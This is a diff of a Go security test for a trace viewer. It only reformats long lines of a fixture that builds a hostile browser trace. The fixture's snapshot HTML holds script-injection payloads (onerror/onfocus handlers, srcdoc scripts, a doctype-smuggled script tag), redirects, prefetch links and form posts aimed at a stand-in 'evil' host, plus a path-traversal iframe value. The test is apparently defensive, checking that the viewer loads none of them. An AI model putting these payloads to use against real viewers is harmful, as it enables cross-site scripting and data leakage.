@@ -48,7 +48,8 @@ type looked struct {
 func lookAtTrace(t *testing.T, address, text string) (seen looked) {
 	t.Helper()
 	pkg, chromium, node := browsertest.Driver(t, "..")
-	cmd := exec.CommandContext(t.Context(), node, "testdata/trace_viewer.cjs", pkg, chromium, address, text, os.Getenv("RAMUS_TRACE_PICTURE"))
+	cmd := exec.CommandContext(t.Context(), node, "testdata/trace_viewer.cjs", pkg, chromium, address, text,
+		os.Getenv("RAMUS_TRACE_PICTURE"))
 	var errs bytes.Buffer
 	cmd.Stderr = &errs
 	out, err := cmd.Output()
@@ -95,7 +96,8 @@ func TestHostileTrace(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			web := start(mux)
 			defer web.Close()
-			seen := lookAtTrace(t, web.URL+"/trace/index.html?trace="+url.QueryEscape("/file/trace.zip?a=b&c=d"), "Visible text")
+			seen := lookAtTrace(t, web.URL+"/trace/index.html?trace="+url.QueryEscape("/file/trace.zip?a=b&c=d"),
+				"Visible text")
 			mu.Lock()
 			defer mu.Unlock()
 			if len(asked) > 0 {
@@ -144,9 +146,11 @@ func hostileTrace(t *testing.T, evil string) []byte {
 		l{"META", m{"http-equiv": "refresh", "content": "0;url=" + evil + "/meta"}},
 		l{"meta http-equiv=refresh content='0;url=" + evil + "/raw-meta' ", m{}},
 		l{"LINK", m{"rel": "preconnect", "href": evil}}, l{"LINK", m{"rel": "dns-prefetch", "href": evil}},
-		l{"LINK", m{"rel": "prefetch", "href": evil + "/prefetch"}}, l{"link rel=preload as=script href=" + evil + "/raw-preload ", m{}},
+		l{"LINK", m{"rel": "prefetch", "href": evil + "/prefetch"}},
+		l{"link rel=preload as=script href=" + evil + "/raw-preload ", m{}},
 		l{"LINK", m{"rel": "stylesheet", "href": evil + "/style.css"}},
-		l{"FORM", m{"action": evil + "/form", "method": "post"}, l{"INPUT", m{"autofocus": "", "onfocus": script}}, l{"BUTTON", m{"type": "submit"}, "go"}},
+		l{"FORM", m{"action": evil + "/form", "method": "post"}, l{"INPUT", m{"autofocus": "", "onfocus": script}},
+			l{"BUTTON", m{"type": "submit"}, "go"}},
 		l{"IFRAME", m{"src": evil + "/iframe"}}, l{"IFRAME", m{"srcdoc": "<script>" + script + "</script>"}},
 		l{"IFRAME", m{"__playwright_src__": "/../../../evidence/x"}}, l{"iframe src=" + evil + "/raw-iframe ", m{}},
 		l{"iframe srcdoc='<script>" + script + "</script>' ", m{}},
@@ -158,18 +162,25 @@ func hostileTrace(t *testing.T, evil string) []byte {
 		l{"DIV", m{}, l{"TEMPLATE", m{"__playwright_shadow_root_": "open"}, l{"IMG", m{"src": "y", "onerror": script}}}},
 		l{"P", m{}, "Visible text"}}}
 	shot := func(name, doctype string) m {
-		return m{"type": "frame-snapshot", "snapshot": m{"callId": "call@8", "snapshotName": name, "pageId": "page@1", "frameId": "frame@1", "frameUrl": evil + "/",
-			"doctype": doctype, "html": html, "viewport": m{"width": 800, "height": 600}, "timestamp": 1002, "wallTime": 1795311421772,
+		return m{"type": "frame-snapshot", "snapshot": m{"callId": "call@8", "snapshotName": name, "pageId": "page@1",
+			"frameId": "frame@1", "frameUrl": evil + "/",
+			"doctype": doctype, "html": html, "viewport": m{"width": 800, "height": 600}, "timestamp": 1002,
+			"wallTime":       1795311421772,
 			"collectionTime": 1, "resourceOverrides": l{}, "isMainFrame": true}}
 	}
 	var events bytes.Buffer
 	e := json.NewEncoder(&events)
 	for _, v := range []m{
-		{"type": "context-options", "version": 8, "origin": "library", "browserName": "chromium", "options": m{"viewport": m{"width": 800, "height": 600}},
-			"platform": "linux", "wallTime": 1795311421770, "monotonicTime": 1000, "sdkLanguage": "javascript", "contextId": "context@1"},
-		{"type": "before", "callId": "call@8", "startTime": 1001, "class": "Frame", "method": "goto", "params": m{"url": evil + "/"}, "pageId": "page@1", "beforeSnapshot": "before@call@8"},
+		{"type": "context-options", "version": 8, "origin": "library", "browserName": "chromium",
+			"options":  m{"viewport": m{"width": 800, "height": 600}},
+			"platform": "linux", "wallTime": 1795311421770, "monotonicTime": 1000, "sdkLanguage": "javascript",
+			"contextId": "context@1"},
+		{"type": "before", "callId": "call@8", "startTime": 1001, "class": "Frame", "method": "goto",
+			"params": m{"url": evil + "/"}, "pageId": "page@1", "beforeSnapshot": "before@call@8"},
 		shot("before@call@8", "html"),
-		{"type": "console", "messageType": "error", "text": `<img src=x onerror="` + script + `">`, "args": l{}, "location": m{"url": "javascript:" + script, "lineNumber": 0, "columnNumber": 0}, "time": 1005, "pageId": "page@1"},
+		{"type": "console", "messageType": "error", "text": `<img src=x onerror="` + script + `">`, "args": l{},
+			"location": m{"url": "javascript:" + script, "lineNumber": 0, "columnNumber": 0}, "time": 1005,
+			"pageId": "page@1"},
 		{"type": "after", "callId": "call@8", "endTime": 1010, "afterSnapshot": "after@call@8"},
 		shot("after@call@8", "html><script>"+script+"</script>"),
 	} {
